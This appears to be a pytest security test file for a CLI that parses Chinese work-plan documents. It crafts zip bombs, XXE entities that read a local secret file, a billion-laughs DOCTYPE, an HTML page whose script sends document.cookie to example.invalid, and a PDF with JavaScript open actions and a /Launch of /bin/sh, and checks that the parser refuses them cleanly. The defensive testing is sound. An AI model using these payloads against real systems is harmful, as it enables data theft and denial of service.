"""Hostile or broken files given to `main.py parse`: one Chinese line and a non-zero exit, or a parse
that fetched nothing, ran nothing and leaked no local file. Never a traceback.

Every file is crafted in tmp_path; every run is under the no-network audit hook of test_no_network.
"""

from __future__ import annotations

import io
import json
import random
import re
import zipfile
from pathlib import Path

import pytest
from test_no_network import guarded

W_NS = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
S_NS = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
SECRET = "TOP-SECRET-4242-机密"
DOCX_TYPES = ('<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
              '<Override PartName="/word/document.xml" ContentType="application/vnd.openxmlformats-'
              'officedocument.wordprocessingml.document.main+xml"/></Types>')


@pytest.fixture
def secret(tmp_path) -> Path:
    path = tmp_path / "secret.txt"
    path.write_text(SECRET, encoding="utf-8")
    return path


def zipped(members: dict[str, str | bytes]) -> bytes:
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED) as zf:
        for name, data in members.items():
            zf.writestr(name, data)
    return buf.getvalue()


def docx(document_xml: str | bytes) -> bytes:
    return zipped({"[Content_Types].xml": DOCX_TYPES, "word/document.xml": document_xml})


def word_body(text: str, doctype: str = "") -> str:
    paras = "".join(f"<w:p><w:r><w:t>{line}</w:t></w:r></w:p>" for line in text.split("\n"))
    return f'<?xml version="1.0"?>{doctype}<w:document xmlns:w="{W_NS}"><w:body>{paras}</w:body></w:document>'


def xlsx_with(sheet_xml: str) -> bytes:
    import openpyxl

    wb = openpyxl.Workbook()
    wb.active["A1"] = "一、任务"
    buf = io.BytesIO()
    wb.save(buf)
    base = zipfile.ZipFile(io.BytesIO(buf.getvalue()))
    members = {n: base.read(n) for n in base.namelist()}
    members["xl/worksheets/sheet1.xml"] = sheet_xml
    return zipped(members)


def parse(path: Path):
    res = guarded("parse", str(path))
    out = res.stdout + res.stderr
    assert "NETWORK" not in res.stderr, res.stderr
    assert "Traceback" not in out and "程序内部错误" not in out, out
    return res


def refused(path: Path, words: str) -> str:
    """Parsing `path` fails with one Chinese line containing `words`; returns that line."""
    res = parse(path)
    lines = res.stderr.strip().splitlines()
    assert res.returncode == 2 and len(lines) == 1, (res.returncode, res.stderr)
    assert lines[0].startswith("错误：") and words in lines[0], lines[0]
    return lines[0]


def no_leak(res) -> None:
    out = res.stdout + res.stderr
    assert SECRET not in out and "root:" not in out


# -- archives -----------------------------------------------------------------------------------------

def test_zip_bomb_docx_is_refused_by_its_uncompressed_size(tmp_path):
    bomb = tmp_path / "工作要点.docx"
    bomb.write_bytes(docx(b"<" + b"\0" * (60 * 1024 * 1024)))  # 60 MB of nothing squeezes to ~60 KB
    assert bomb.stat().st_size < 1024 * 1024
    refused(bomb, "解压后过大")


def test_zip_bomb_xlsx_is_refused_by_its_uncompressed_size(tmp_path):
    bomb = tmp_path / "台账.xlsx"
    bomb.write_bytes(xlsx_with("<" + " " * (60 * 1024 * 1024)))
    refused(bomb, "解压后过大")


@pytest.mark.parametrize("encoding", ["utf-8", "utf-16-le", "utf-16-be"])
def test_docx_with_external_entity_never_reads_the_file(tmp_path, secret, encoding):
    doctype = f'<!DOCTYPE d [<!ENTITY x SYSTEM "{secret.as_uri()}">]>'
    xml = word_body("一、加强政策解读\n1.&x;公开。", doctype).replace('<?xml version="1.0"?>', "")
    declared, bom = ("utf-8", "") if encoding == "utf-8" else ("utf-16", "\ufeff")
    data = (bom + f'<?xml version="1.0" encoding="{declared}"?>' + xml).encode(encoding)
    path = tmp_path / "xxe.docx"
    path.write_bytes(docx(data))
    no_leak(parse(path))


def test_docx_with_billion_laughs_is_refused_quickly(tmp_path):
    ents = '<!ENTITY a0 "哈哈哈哈哈哈哈哈哈哈">' + "".join(
        f'<!ENTITY a{i} "{("&a" + str(i - 1) + ";") * 10}">' for i in range(1, 10))
    path = tmp_path / "laughs.docx"
    path.write_bytes(docx(word_body("一、&a9;", f"<!DOCTYPE d [{ents}]>")))
    refused(path, "文件已损坏")


def test_xlsx_with_external_entity_never_reads_the_file(tmp_path, secret):
    sheet = (f'<?xml version="1.0"?><!DOCTYPE w [<!ENTITY x SYSTEM "{secret.as_uri()}">]>'
             f'<worksheet xmlns="{S_NS}"><sheetData><row r="1"><c r="A1" t="inlineStr"><is><t>一、&x;</t></is>'
             '</c></row></sheetData></worksheet>')
    path = tmp_path / "xxe.xlsx"
    path.write_bytes(xlsx_with(sheet))
    no_leak(parse(path))


# -- web pages ----------------------------------------------------------------------------------------

def test_html_runs_no_script_and_fetches_nothing(tmp_path, secret):
    page = f"""<!DOCTYPE html [<!ENTITY x SYSTEM "{secret.as_uri()}">]>
<html><head><meta charset="utf-8"><meta http-equiv="refresh" content="0;url=http://example.invalid/">
<link rel="stylesheet" href="http://example.invalid/site.css"><style>@import url(http://example.invalid/a.css);</style>
<script src="http://example.invalid/app.js"></script>
<script>document.write('<p>二、脚本写入的任务</p>'); fetch('http://example.invalid/?'+document.cookie);</script>
</head><body>
<p>某市2024年政务公开工作要点</p>
<p>一、加强政策解读</p><p>1.做好政策文件解读。&x;</p>
<img src="http://example.invalid/track.png" onerror="alert(1)">
<iframe src="http://example.invalid/frame.html"></iframe>
<object data="{secret.as_uri()}"></object><embed src="{secret.as_uri()}">
<svg><image href="http://example.invalid/i.svg"/></svg>
<p>2.推进政务公开平台建设。</p>
</body></html>"""
    path = tmp_path / "page.html"
    path.write_text(page, encoding="utf-8")
    res = parse(path)
    assert res.returncode == 0, res.stderr
    assert "做好政策文件解读" in res.stdout
    assert "脚本写入" not in res.stdout and "document.write" not in res.stdout and "alert" not in res.stdout
    no_leak(res)


# -- sizes and garbage --------------------------------------------------------------------------------

@pytest.mark.parametrize("name", ["plan.txt", "plan.docx", "plan.pdf"])
def test_oversize_file_is_refused_before_reading(tmp_path, name):
    big = tmp_path / name
    with open(big, "wb") as fh:  # sparse: costs no disk, and is never read
        fh.truncate(60 * 1024 * 1024)
    line = refused(big, "文件过大")
    assert re.search(r"60 MB.*50 MB", line)


@pytest.mark.parametrize("suffix", [".docx", ".xlsx", ".pdf", ".txt", ".html"])
def test_random_bytes_give_one_chinese_line(tmp_path, suffix):
    path = tmp_path / f"plan{suffix}"
    path.write_bytes(random.Random(suffix).randbytes(20000))
    res = parse(path)
    lines = res.stderr.strip().splitlines()
    assert res.returncode == 2 and len(lines) == 1 and lines[0].startswith("错误："), res.stderr
    assert re.search(r"[\u4e00-\u9fff]", lines[0])


def test_empty_file_is_named_as_empty(tmp_path):
    path = tmp_path / "plan.docx"
    path.write_bytes(b"")
    refused(path, "文件是空的")


def test_pdf_with_javascript_and_links_runs_and_fetches_nothing(tmp_path):
    path = tmp_path / "plan.pdf"
    path.write_bytes(pdf_with_actions("1. Publish the budget."))
    res = parse(path)  # read (no Chinese plan in it) or refused: either way one line, nothing run or fetched
    assert res.returncode in (0, 2)
    assert res.returncode == 0 or len(res.stderr.strip().splitlines()) == 1


def test_parse_json_nested_beyond_reason_is_a_clear_error(tmp_path):
    path = tmp_path / "plan.json"
    path.write_text("[" * 200_000 + "]" * 200_000, encoding="utf-8")
    refused(path, "JSON")


def test_parse_json_of_the_wrong_shape_is_a_clear_error(tmp_path):
    path = tmp_path / "plan.json"
    path.write_text(json.dumps({"title": ["not", "a", "string"], "nodes": "x"}), encoding="utf-8")
    refused(path, "JSON")


def pdf_with_actions(text: str) -> bytes:
    """A one-page PDF whose open action runs JavaScript and whose page links out and launches a file."""
    stream = f"BT /F1 12 Tf 72 720 Td ({text}) Tj ET".encode()
    objects = [
        b"<< /Type /Catalog /Pages 2 0 R /OpenAction 5 0 R /Names << /JavaScript << /Names [(x) 5 0 R] >> >> >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R /Annots [6 0 R 7 0 R]"
        b" /Resources << /Font << /F1 8 0 R >> >> >>",
        b"<< /Length %d >>\nstream\n" % len(stream) + stream + b"\nendstream",
        b"<< /S /JavaScript /JS (app.launchURL('http://example.invalid/'); this.submitForm('http://example.invalid/');) >>",
        b"<< /Type /Annot /Subtype /Link /Rect [0 0 100 100] /A << /S /URI /URI (http://example.invalid/) >> >>",
        b"<< /Type /Annot /Subtype /Link /Rect [0 100 100 200] /A << /S /Launch /F (/bin/sh) >> >>",
        b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
    ]
    out = bytearray(b"%PDF-1.7\n")
    offsets = []
    for number, body in enumerate(objects, 1):
        offsets.append(len(out))
        out += b"%d 0 obj\n" % number + body + b"\nendobj\n"
    xref = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    out += b"".join(b"%010d 00000 n \n" % off for off in offsets)
    out += b"trailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (len(objects) + 1, xref)
    return bytes(out)


def test_parse_json_with_children_nested_thousands_deep_is_a_clear_error(tmp_path):
    depth = 5000  # json.loads copes (its limit is far deeper); reading the nodes back must too
    nested = '{"title": "分组", "children": [' * depth + '{"title": "任务"}' + "]}" * depth
    path = tmp_path / "plan.json"
    path.write_text('{"title": "计划", "nodes": [' + nested + "]}", encoding="utf-8")
    refused(path, "JSON")


@pytest.mark.parametrize("year", ["Infinity", "-Infinity", "1e999", "NaN", "1" + "0" * 400, "-7", "2026.5", "true"])
def test_parse_json_with_a_year_that_is_no_year_is_a_clear_error(tmp_path, year):
    """Python's json reads Infinity, NaN and 1e999; int() of them overflowed into 程序内部错误."""
    path = tmp_path / "plan.json"
    path.write_text('{"title": "计划", "year": ' + year + ', "nodes": [{"title": "任务"}]}', encoding="utf-8")
    assert "year 应为四位数的年份" in refused(path, "解析 JSON 文件格式不正确")
    res = guarded("--db", str(tmp_path / "t.sqlite3"), "import", str(path))
    assert res.returncode == 2 and "程序内部错误" not in res.stderr and len(res.stderr.strip().splitlines()) == 1
